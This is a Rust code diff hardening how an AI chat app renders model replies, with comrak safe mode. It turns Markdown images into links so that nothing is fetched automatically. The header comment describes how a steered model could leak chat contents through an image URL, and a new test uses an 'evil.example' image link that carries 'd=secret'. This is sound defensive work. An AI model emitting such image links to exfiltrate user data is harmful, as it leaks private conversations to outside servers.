@@ -1,10 +1,13 @@
 //! AI replies as HTML: their Markdown rendered once final (headings, lists, tables, code, links),
 //! by comrak in its safe mode. A model's output is untrusted text: raw HTML in it is omitted
 //! (never passed through), and links or images whose scheme could run code (`javascript:`,
-//! `vbscript:`, `file:`, `data:` but images) get an empty address. People's messages are not
+//! `vbscript:`, `file:`, `data:` but images) get an empty address. Images become links: an
+//! image would be fetched as soon as the reply is shown, so a model (or whoever steers it)
+//! could send what the chat holds to any server in its address. People's messages are not
 //! rendered: they stay text (the page makes their links clickable).
 
-use comrak::{markdown_to_html, Options};
+use comrak::nodes::NodeValue;
+use comrak::{format_html, parse_document, Arena, Options};
 
 /// `text` (Markdown) as safe HTML.
 pub fn render(text: &str) -> String {
@@ -17,7 +20,21 @@ pub fn render(text: &str) -> String {
     options.render.hardbreaks = true;
     // The default, said out loud: raw HTML is omitted, never passed through.
     options.render.r#unsafe = false;
-    let mut html = markdown_to_html(text, &options);
+    let arena = Arena::new();
+    let root = parse_document(&arena, text, &options);
+    for node in root.descendants() {
+        let image = match &node.data().value {
+            NodeValue::Image(link) => Some(link.clone()),
+            _ => None,
+        };
+        if let Some(link) = image {
+            // Its alt text (the image's children) becomes the link's words.
+            node.data_mut().value = NodeValue::Link(link);
+        }
+    }
+    let mut html = String::new();
+    // Writing to a String cannot fail.
+    let _ = format_html(root, &options, &mut html);
     html.truncate(html.trim_end().len());
     html
 }
@@ -80,6 +97,16 @@ mod tests {
             "{html}"
         );
         assert!(html.contains("raw HTML omitted"), "{html}");
+    }
+
+    #[test]
+    fn an_image_is_a_link_to_it_never_fetched_by_itself() {
+        let html = render("look: ![the chart](https://evil.example/x.png?d=secret)");
+        assert!(!html.contains("<img"), "{html}");
+        assert!(
+            html.contains(r#"<a href="https://evil.example/x.png?d=secret">the chart</a>"#),
+            "{html}"
+        );
     }
 
     #[test]
